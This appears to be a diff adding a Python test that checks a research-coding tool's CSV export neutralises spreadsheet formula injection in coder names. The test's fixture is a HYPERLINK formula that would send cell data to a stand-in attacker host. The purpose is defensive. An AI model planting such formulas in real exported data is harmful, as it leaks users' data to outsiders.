@@ -132,6 +132,22 @@ def test_agree_as_markdown_holds_no_html_image_or_link_from_user_text(home, caps
     assert "alert(6)" in rendered and "Ana" in rendered  # the words stay, as text
 
 
+def test_agree_as_csv_runs_no_formula_from_a_coders_name(home, capsys):
+    """Coder names are free text from a shared study: `agree --format csv` gives a cell that
+    a spreadsheet would run as a formula a leading `'`, as `export --format csv` does."""
+    session_id, ids = session_with_notes(capsys, "a", "b")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    assert run(capsys, "tag", session_id, ids[0], "pain", "--as", formula)[0] == 0
+    assert run(capsys, "tag", session_id, ids[1], "pain", "--as", "@Bo")[0] == 0
+    code, out, _ = run(capsys, "agree", session_id, "--format", "csv")
+    assert code == 0
+    rows = list(csv.DictReader(io.StringIO(out)))
+    pain = next(r for r in rows if r["code"] == "pain")
+    assert (pain["first"], pain["second"]) == ("'" + formula, "'@Bo")
+    names = [row[column] for row in rows for column in ("code", "first", "second")]
+    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
+
+
 def test_a_file_from_before_codings_opens_with_the_coder_unknown(home, capsys):
     session_id, (note_id,) = session_with_notes(capsys, "old note")
     session_file = DataStore(home).open_session(session_id)
